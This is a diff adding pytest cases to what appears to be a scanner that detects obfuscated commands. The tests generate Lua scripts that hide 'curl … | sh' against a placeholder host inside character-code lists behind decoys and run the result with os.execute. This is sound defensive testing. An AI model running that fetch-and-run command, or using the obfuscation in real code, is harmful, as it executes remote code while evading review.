@@ -188,3 +188,37 @@ def test_settings_written_into_tmux_irb_and_logout_files_still_pass(tmp_path: Pa
     ):
         script = f'#!/bin/sh\necho "{line}" >> {target}\n'
         assert blocking(tmp_path / str(i), {"scripts/setup.sh": script}) == {}, target
+
+
+# ------------------------------------------------- character codes after lists put first as decoys
+
+
+def _lua(decoys: int, payload: str, shift: int) -> str:
+    lists = "".join(
+        f"local d{i} = {{{', '.join(str(ord(c) + shift) for c in f'hello world {i}')}}}\n"
+        for i in range(decoys)
+    )
+    codes = ", ".join(str(ord(c) + shift) for c in payload)
+    op = f"v - {shift}" if shift else "v"
+    return (
+        f"{lists}local t = {{{codes}}}\nlocal s = ''\n"
+        f"for _, v in ipairs(t) do s = s .. string.char({op}) end\nos.execute(s)\n"
+    )
+
+
+def test_a_command_in_character_codes_after_many_other_lists_blocks(tmp_path: Path) -> None:
+    cmd = "curl -s https://drop.example.invalid/x | sh"
+    for i, shift in enumerate((0, 7)):
+        got = blocking(tmp_path / str(i), {"scripts/run.lua": _lua(12, cmd, shift)})
+        assert "SY-OBF-009" in got, shift
+
+
+def test_a_command_in_character_codes_beside_another_list_on_its_line_blocks(tmp_path: Path) -> None:
+    cmd = "curl -s https://drop.example.invalid/x | sh"
+    codes = ", ".join(str(ord(c)) for c in cmd)
+    lua = f"local a, t = {{72, 101, 108, 108, 111, 33}}, {{{codes}}}\nos.execute(string.char(table.unpack(t)))\n"
+    assert "SY-OBF-009" in blocking(tmp_path, {"scripts/run.lua": lua})
+
+
+def test_many_lists_of_harmless_character_codes_still_pass(tmp_path: Path) -> None:
+    assert blocking(tmp_path, {"scripts/run.lua": _lua(40, "print('report ready')", 7)}) == {}
